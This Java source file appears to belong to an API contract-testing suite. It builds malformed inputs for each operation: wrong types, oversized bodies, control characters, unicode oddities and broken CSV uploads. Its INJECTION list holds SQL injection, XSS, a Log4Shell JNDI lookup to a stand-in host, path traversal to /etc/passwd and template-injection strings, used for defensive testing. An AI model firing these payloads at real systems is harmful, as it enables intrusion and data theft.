package app.rapport.contract;

import app.rapport.support.ContractModel.Op;
import io.swagger.v3.oas.models.media.Schema;
import io.swagger.v3.oas.models.parameters.Parameter;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Function;

/**
 * The bad inputs tried on one operation, generated from its contract: for each body field,
 * wrong types, null, absence, lengths and sizes over the limits, control characters, unicode
 * edge cases and injection strings; for the body as a whole, broken JSON, unknown and
 * repeated fields, a wrong content type, an oversized document; for each path and query
 * parameter, odd values; for each header parameter (an {@code Idempotency-Key}), values its
 * schema refuses; for an uploaded file (a CSV), no file, another type, and files that are not
 * what the operation reads. Each is applied to the operation's valid baseline call.
 */
final class BadInputs {

    /** Whether the server must refuse the input, or may also take it (text that is odd but valid). */
    enum Expect { REFUSED, REFUSED_OR_TAKEN }

    /** The request as it goes on the wire: target (encoded path and query), content type, body text. */
    record Wire(String target, String contentType, String body, Map<String, String> headers) {

        Wire(String target, String contentType, String body) {
            this(target, contentType, body, Map.of());
        }
    }

    record BadInput(String label, Expect expect, Function<Call, Wire> wire) {
    }

    /** Control characters: C0, DEL, C1, as JSON escapes. */
    static final List<String> CONTROL = List.of("\\u0000", "\\u0001", "\\u0008", "\\u001b[31m", "\\u007f", "\\u0085", "\\u009b");
    /** Unpaired surrogates: not text at all. */
    static final List<String> LONE_SURROGATES = List.of("\\ud800", "x\\udfffy", "\\udbff\\udbff");
    /** Valid but tricky unicode: direction overrides, zero-width, combining marks, emoji, other scripts. */
    static final List<String> UNICODE = List.of("abc\u202edef", "a\u200bb\u200dc\ufeff", "e\u0301\u0301\u0301\u0301",
            "\uD83D\uDC69\u200D\uD83D\uDCBB \uD83D\uDE80", "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
            "\u2800\u3164 x", "\uFFFD\uFFFF x");
    /** Strings that attack whatever might interpret the text. */
    static final List<String> INJECTION = List.of("'; DROP TABLE members; --", "' OR '1'='1", "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>", "${jndi:ldap://evil.example/a}", "../../../../etc/passwd", "%00%2e%2e%2f",
            "{{7*7}}${7*7}", "\\\\server\\share", "$where: '1 == 1'");

    /** Odd values for an id or handle in the path (already percent-encoded where needed). */
    static final List<String> PATH_ODDITIES = List.of("0", "-1", "9223372036854775808", "99999999999999999999", "abc",
            "1.5", "1e3", "%00", "%2e%2e", "%2F", "%20", "1%00", "%C3%A9", "%F0%9F%98%80", "%E2%80%AE1",
            "x".repeat(300), "9".repeat(9000));
    static final List<String> BAD_CURSORS = List.of("!!!", "abc", "AAAA", "%00",
            b64("garbage"), b64("2020-01-01T00:00:00Z|abc"), b64("\u0000\u0000"), "x".repeat(5000));
    static final List<String> BAD_LIMITS = List.of("0", "-1", "101", "abc", "1.5", "9223372036854775808", "%00");
    static final List<String> BAD_INTEGERS = List.of("abc", "1.5", "99999999999999999999", "%00", "-1");
    static final List<String> BAD_BOOLEANS = List.of("maybe", "2", "%00");

    private BadInputs() {
    }

    static List<BadInput> of(Op op) {
        List<BadInput> out = new ArrayList<>();
        for (Parameter p : op.in("path")) {
            for (String odd : PATH_ODDITIES) {
                out.add(new BadInput("path " + p.getName() + "=" + clip(odd), expectForId(p.getName(), odd), c -> new Wire(
                        pathWith(c, p.getName(), odd) + c.renderQuery(), c.contentType(), bodyText(c))));
            }
        }
        for (Parameter p : op.in("query")) {
            queryOddities(out, op, p);
        }
        for (Parameter p : op.in("header")) {
            headerOddities(out, p);
        }
        if (op.body() != null) {
            bodyOddities(out, op);
        } else if (op.operation().getRequestBody() != null
                && op.operation().getRequestBody().getContent().containsKey("text/csv")) {
            csvOddities(out);
        }
        return out;
    }

    /** Values a header's schema refuses (length, pattern): sent as they are, with an otherwise valid call. */
    private static void headerOddities(List<BadInput> out, Parameter p) {
        String name = p.getName();
        Schema<?> s = p.getSchema();
        List<String> values = new ArrayList<>();
        if (s.getMinLength() != null && s.getMinLength() > 0) {
            values.addAll(List.of("", " "));
        }
        if (s.getPattern() != null) { // the contract's header patterns are visible ASCII, no spaces
            values.addAll(List.of("two words", "tab\tinside"));
        }
        if (s.getMaxLength() != null) {
            values.add("k".repeat(s.getMaxLength() + 1));
        }
        for (String v : values) {
            out.add(new BadInput("header " + name + "=" + clip(v), Expect.REFUSED, c -> new Wire(target(c), c.contentType(),
                    bodyText(c), Map.of(name, v))));
        }
    }

    /** An uploaded CSV file: missing, of another type, empty, or not the table the operation reads. */
    private static void csvOddities(List<BadInput> out) {
        out.add(new BadInput("no file", Expect.REFUSED, c -> new Wire(target(c), "text/csv", null)));
        out.add(new BadInput("file as application/json", Expect.REFUSED, c -> new Wire(target(c), "application/json", "{}")));
        out.add(new BadInput("file as application/xml", Expect.REFUSED, c -> new Wire(target(c), "application/xml", "<a/>")));
        for (String file : List.of("", "\n\n", "just some words\n", "a,b,c\n1,2,3\n",
                "\u0000\u0001\u0002binary", "First Name,Last Name\n\"Ana,Lima\n", "\uFFFE\u0000F\u0000i")) {
            out.add(new BadInput("file " + clip(file.replace("\n", "\\n")), Expect.REFUSED,
                    c -> new Wire(target(c), "text/csv", file)));
        }
        // a header and nobody under it: an import of no one, which may be kept
        out.add(new BadInput("file with a header only", Expect.REFUSED_OR_TAKEN,
                c -> new Wire(target(c), "text/csv", "First Name,Last Name\n")));
        out.add(new BadInput("file over 8 MiB", Expect.REFUSED,
                c -> new Wire(target(c), "text/csv", c.rawBody + "Pad,Ding,,,Co,PM,\n".repeat(8 * 1024 * 1024 / 17 + 1))));
    }

    private static void queryOddities(List<BadInput> out, Op op, Parameter p) {
        String name = p.getName();
        Schema<?> s = p.getSchema();
        String type = SchemaValues.type(s);
        List<String> values = new ArrayList<>();
        Expect expect = Expect.REFUSED;
        if (name.equals("cursor")) {
            values.addAll(BAD_CURSORS);
        } else if (name.equals("limit")) {
            values.addAll(BAD_LIMITS);
        } else if (s.getEnum() != null) {
            values.addAll(List.of("NOT_A_VALUE", "%00", String.valueOf(s.getEnum().get(0)).toLowerCase() + "x"));
        } else if (type.equals("integer") || (type.equals("array") && "integer".equals(SchemaValues.type(s.getItems())))) {
            values.addAll(BAD_INTEGERS);
            if (type.equals("array") && s.getMaxItems() != null) {
                out.add(new BadInput("query " + name + " × " + (s.getMaxItems() + 1), Expect.REFUSED, c -> {
                    StringBuilder q = new StringBuilder(c.renderQuery().isEmpty() ? "?" : c.renderQuery() + "&");
                    for (int i = 0; i <= s.getMaxItems(); i++) {
                        q.append(i == 0 ? "" : "&").append(name).append('=').append(i + 1);
                    }
                    return new Wire(c.renderPath() + q, c.contentType(), bodyText(c));
                }));
            }
        } else if (type.equals("boolean")) {
            values.addAll(BAD_BOOLEANS);
        } else {
            values.addAll(List.of("%00", "a%01b", "%1b%5b31m"));
            for (String text : List.of("%ED%A0%80", "%ff%fe")) { // not UTF-8: decoded as U+FFFD, a visible character
                out.add(new BadInput("query " + name + "=" + text, Expect.REFUSED_OR_TAKEN,
                        c -> new Wire(c.renderPath() + queryWith(c, name, text), c.contentType(), bodyText(c))));
            }
            if (s.getMaxLength() != null) {
                values.add("q".repeat(s.getMaxLength() + 1));
            }
            for (String text : INJECTION) {
                out.add(new BadInput("query " + name + "=" + clip(text), Expect.REFUSED_OR_TAKEN,
                        c -> new Wire(c.renderPath() + queryWith(c, name, Http.encode(text)), c.contentType(), bodyText(c))));
            }
        }
        values.add("x".repeat(9000));
        for (String v : values) {
            out.add(new BadInput("query " + name + "=" + clip(v), expect == Expect.REFUSED ? expectForId(name, v) : expect,
                    c -> new Wire(c.renderPath() + queryWith(c, name, v), c.contentType(), bodyText(c))));
        }
        if (Boolean.TRUE.equals(p.getRequired())) {
            out.add(new BadInput("query " + name + " missing", Expect.REFUSED,
                    c -> new Wire(c.renderPath() + queryWithout(c, name), c.contentType(), bodyText(c))));
        }
    }

    @SuppressWarnings({"unchecked", "rawtypes"})
    private static void bodyOddities(List<BadInput> out, Op op) {
        Schema<?> schema = op.body();
        if (op.bodyRequired()) {
            out.add(new BadInput("no body", Expect.REFUSED, c -> wire(c, null)));
            out.add(new BadInput("body null", Expect.REFUSED, c -> wire(c, "null")));
        }
        for (String broken : List.of("{", "{\"a\":", "[]", "\"text\"", "42", "true", "{'single': 'quotes'}", "{\"a\":1}}",
                "\u0000", "{\"x\": NaN}")) {
            out.add(new BadInput("body " + clip(broken), Expect.REFUSED, c -> wire(c, broken)));
        }
        // an optional body may come without a Content-Type, so a body-less change is read as JSON whatever it says
        Expect typed = op.bodyRequired() ? Expect.REFUSED : Expect.REFUSED_OR_TAKEN;
        out.add(new BadInput("content type text/plain", typed, c -> new Wire(target(c), "text/plain", bodyText(c))));
        out.add(new BadInput("content type application/xml", Expect.REFUSED, c -> new Wire(target(c), "application/xml", "<a/>")));
        out.add(new BadInput("body over 256 KiB", Expect.REFUSED, c -> {
            Map<String, Object> b = new LinkedHashMap<>(base(c));
            b.put("padding", "p".repeat(300_000));
            return wire(c, Json.write(b));
        }));
        out.add(new BadInput("unknown field", Expect.REFUSED, c -> {
            Map<String, Object> b = new LinkedHashMap<>(base(c));
            b.put("zzUnknownField", 1);
            return wire(c, Json.write(b));
        }));
        out.add(new BadInput("unknown fields id, memberId, ownerId, authorId", Expect.REFUSED, c -> {
            Map<String, Object> b = new LinkedHashMap<>(base(c));
            for (String name : List.of("id", "memberId", "ownerId", "authorId")) {
                if (schema.getProperties() == null || !schema.getProperties().containsKey(name)) {
                    b.put(name, 1);
                }
            }
            return wire(c, Json.write(b));
        }));
        if (schema.getProperties() == null) {
            return;
        }
        List<String> required = schema.getRequired() == null ? List.of() : schema.getRequired();
        for (Map.Entry<String, Schema> e : schema.getProperties().entrySet()) {
            String field = e.getKey();
            Schema<?> s = e.getValue();
            out.add(new BadInput(field + " repeated", Expect.REFUSED, c -> {
                Map<String, Object> b = new LinkedHashMap<>(base(c));
                b.putIfAbsent(field, SchemaValues.value(s));
                String json = Json.write(b);
                return wire(c, "{\"" + field + "\":" + Json.write(b.get(field)) + "," + json.substring(1));
            }));
            if (required.contains(field)) {
                out.add(new BadInput(field + " missing", Expect.REFUSED, c -> {
                    Map<String, Object> b = new LinkedHashMap<>(base(c));
                    b.remove(field);
                    return wire(c, Json.write(b));
                }));
                if (!Boolean.TRUE.equals(s.getNullable())) {
                    out.add(replaced(field, "null", Expect.REFUSED));
                }
            }
            String type = SchemaValues.type(s);
            for (String wrong : wrongTypes(s, type)) {
                out.add(replaced(field, wrong, Expect.REFUSED));
            }
            if (type.equals("string")) {
                stringOddities(out, field, s);
            }
            if (type.equals("array")) {
                if (s.getMaxItems() != null) {
                    out.add(new BadInput(field + " × " + (s.getMaxItems() + 1), Expect.REFUSED, c -> {
                        List<Object> items = new ArrayList<>();
                        for (int i = 0; i <= s.getMaxItems(); i++) {
                            items.add(item(s.getItems(), i));
                        }
                        return withField(c, field, Json.write(items));
                    }));
                }
                if (s.getMinItems() != null && s.getMinItems() > 0) {
                    out.add(replaced(field, "[]", Expect.REFUSED));
                }
                String itemType = SchemaValues.type(s.getItems());
                for (String wrong : wrongTypes(s.getItems(), itemType)) {
                    out.add(replaced(field, "[" + wrong + "]", Expect.REFUSED));
                }
                out.add(replaced(field, "[null]", Expect.REFUSED));
                if (itemType.equals("string")) {
                    for (String cc : CONTROL) {
                        out.add(replaced(field, "[\"x" + cc + "\"]", Expect.REFUSED));
                    }
                }
            }
        }
    }

    private static void stringOddities(List<BadInput> out, String field, Schema<?> s) {
        boolean free = s.getEnum() == null && s.getFormat() == null && s.getPattern() == null;
        if (s.getMaxLength() != null) {
            out.add(replaced(field, Json.write("L".repeat(s.getMaxLength() + 1)), Expect.REFUSED));
            // over the limit in characters too (an emoji is two UTF-16 units)
            out.add(replaced(field, Json.write("\uD83D\uDE00".repeat(s.getMaxLength() + 1)), Expect.REFUSED));
        }
        if (s.getMinLength() != null && s.getMinLength() > 0) {
            out.add(replaced(field, "\"\"", Expect.REFUSED));
            out.add(replaced(field, Json.write(" ".repeat(Math.max(1, s.getMinLength()))), Expect.REFUSED));
            out.add(replaced(field, "\"\\u00a0\\u200b\\u3000\\u3000\"", Expect.REFUSED));
        }
        for (String cc : CONTROL) {
            out.add(replaced(field, "\"x" + cc + "y\"", Expect.REFUSED));
        }
        for (String lone : LONE_SURROGATES) {
            out.add(replaced(field, "\"" + lone + "\"", Expect.REFUSED));
        }
        Expect odd = free ? Expect.REFUSED_OR_TAKEN : Expect.REFUSED;
        for (String text : UNICODE) {
            out.add(replaced(field, Json.write(text), odd));
        }
        for (String text : INJECTION) {
            out.add(replaced(field, Json.write(text), odd));
        }
        if (s.getEnum() != null) {
            out.add(replaced(field, Json.write("NOT_A_VALUE"), Expect.REFUSED));
            out.add(replaced(field, Json.write(String.valueOf(s.getEnum().get(0)).toLowerCase()), Expect.REFUSED));
        }
        if ("date".equals(s.getFormat())) {
            for (String d : List.of("2024-13-45", "yesterday", "2024-02-30", "20240101", "+99999-01-01", "2024-01-01T00:00:00Z")) {
                out.add(replaced(field, Json.write(d), Expect.REFUSED));
            }
        }
        if ("email".equals(s.getFormat())) {
            for (String m : List.of("not-an-email", "a@", "@b.test", "a b@c.test")) {
                out.add(replaced(field, Json.write(m), Expect.REFUSED));
            }
        }
    }

    /**
     * A member id that is a well-formed number but names nobody (0, -1) may be taken where the
     * operation is a filter or an idempotent removal (tags of member 0: none); every other odd id is refused.
     */
    private static Expect expectForId(String name, String value) {
        boolean member = name.equals("memberId");
        return member && (value.equals("0") || value.equals("-1")) ? Expect.REFUSED_OR_TAKEN : Expect.REFUSED;
    }

    private static List<String> wrongTypes(Schema<?> s, String type) {
        return switch (type) {
            case "string" -> List.of("12345", "1.5", "true", "{}", "[\"x\"]");
            case "integer" -> {
                List<String> w = new ArrayList<>(List.of("\"1\"", "1.5", "1.0e0", "true", "{}", "[1]", "\"abc\"",
                        "99999999999999999999", "9223372036854775808", "-9223372036854775809"));
                if ("int32".equals(s.getFormat())) {
                    w.add("2147483648");
                }
                if (s.getMaximum() != null) {
                    w.add(String.valueOf(s.getMaximum().longValue() + 1));
                }
                if (s.getMinimum() != null) {
                    w.add(String.valueOf(s.getMinimum().longValue() - 1));
                }
                yield w;
            }
            case "number" -> List.of("\"1\"", "true", "{}", "[1]");
            case "boolean" -> List.of("\"true\"", "1", "0", "\"yes\"", "{}", "[true]");
            case "array" -> List.of("\"x\"", "1", "{}", "true");
            case "object" -> List.of("[]", "\"x\"", "1");
            default -> List.of();
        };
    }

    private static Object item(Schema<?> items, int i) {
        if (items.getEnum() != null) {
            return String.valueOf(items.getEnum().get(i % items.getEnum().size()));
        }
        return "integer".equals(SchemaValues.type(items)) ? (Object) (long) (i + 1) : "item " + i;
    }

    private static BadInput replaced(String field, String json, Expect expect) {
        return new BadInput(field + "=" + clip(json), expect, c -> withField(c, field, json));
    }

    /** The baseline body with one field's JSON replaced by raw text (to send what a serializer would not). */
    private static Wire withField(Call c, String field, String json) {
        Map<String, Object> b = new LinkedHashMap<>(base(c));
        b.put(field, "\u0001MARK\u0001");
        String text = Json.write(b).replace("\"\\u0001MARK\\u0001\"", json);
        return wire(c, text);
    }

    private static Map<String, Object> base(Call c) {
        return c.body == null ? Map.of() : c.body;
    }

    private static Wire wire(Call c, String body) {
        return new Wire(target(c), "application/json", body);
    }

    private static String target(Call c) {
        return c.renderPath() + c.renderQuery();
    }

    private static String bodyText(Call c) {
        return c.bodyText();
    }

    private static String pathWith(Call c, String name, String raw) {
        String p = c.op.path().replace("{" + name + "}", raw);
        for (var e : c.path.entrySet()) {
            p = p.replace("{" + e.getKey() + "}", Http.encode(e.getValue()));
        }
        return p;
    }

    private static String queryWith(Call c, String name, String raw) {
        String rest = queryWithout(c, name);
        return (rest.isEmpty() ? "?" : rest + "&") + name + "=" + raw;
    }

    private static String queryWithout(Call c, String name) {
        Call copy = c.copy();
        copy.query.remove(name);
        return copy.renderQuery();
    }

    private static String b64(String s) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(s.getBytes(StandardCharsets.UTF_8));
    }

    static String clip(String s) {
        return s.length() > 40 ? s.substring(0, 30) + "…(" + s.length() + ")" : s;
    }
}
